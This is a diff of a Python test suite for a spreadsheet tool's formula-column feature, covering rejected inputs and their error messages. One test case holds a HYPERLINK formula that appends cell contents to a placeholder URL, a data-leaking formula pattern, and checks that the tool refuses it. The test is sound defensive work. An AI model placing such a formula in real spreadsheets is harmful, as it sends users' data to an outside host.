@@ -115,8 +115,7 @@ async def test_a_totals_row_gets_the_new_columns_sum(sheets: SpreadsheetsApplica
 
 async def test_computed_column_refusals(sheets: SpreadsheetsApplication, root: Path) -> None:
     workbook(root / "o.xlsx", {"Orders": ORDERS, "Empty": [], "Header": [["A", "B"]]})
-    orders = {"path": "o.xlsx", "sheet": "Orders"}
-    unknown = await call_checked(sheets, root, "add_formula_column", {**orders, "header": "T",
+    unknown = await call_checked(sheets, root, "add_formula_column", {"path": "o.xlsx", "header": "T",
                                                                        "formula": "=[Qty]*[Cost]"})
     assert "no column 'Cost'; its columns are ['Item', 'Region', 'Qty', 'Price']" in unknown.error
     empty = await call_checked(sheets, root, "add_formula_column", {"path": "o.xlsx", "sheet": "Empty",
@@ -125,15 +124,15 @@ async def test_computed_column_refusals(sheets: SpreadsheetsApplication, root: P
     bare = await call_checked(sheets, root, "add_formula_column", {"path": "o.xlsx", "sheet": "Header",
                                                                     "header": "T", "formula": "=A2"})
     assert "no data rows" in bare.error
-    unsafe = await call_checked(sheets, root, "add_formula_column", {**orders, "header": "T",
+    unsafe = await call_checked(sheets, root, "add_formula_column", {"path": "o.xlsx", "header": "T",
                                                                       "formula": '=HYPERLINK("http://x?"&A2)'})
     assert "HYPERLINK, which is not allowed" in unsafe.error
     # written for another row than the first data row, it would be copied down onto the wrong rows
-    shifted = await call_checked(sheets, root, "add_formula_column", {**orders, "header": "T",
+    shifted = await call_checked(sheets, root, "add_formula_column", {"path": "o.xlsx", "header": "T",
                                                                        "formula": "=C5*D5"})
     assert ("is written for the first data row, 2, and copied down: =C5*D5 refers to row 5, not to row 2; write "
             "it with the cells of row 2 or by the table's headers ([Item], [Region], [Qty], [Price])") in shifted.error
     # a fixed cell ($ row) and the row itself are fine, as is a difference with the row above
     for fine in ("=C2*$D$2", "=C2-C1"):
-        assert (await call_checked(sheets, root, "add_formula_column", {**orders, "header": "T",
+        assert (await call_checked(sheets, root, "add_formula_column", {"path": "o.xlsx", "header": "T",
                                                                          "formula": fine})).error is None, fine
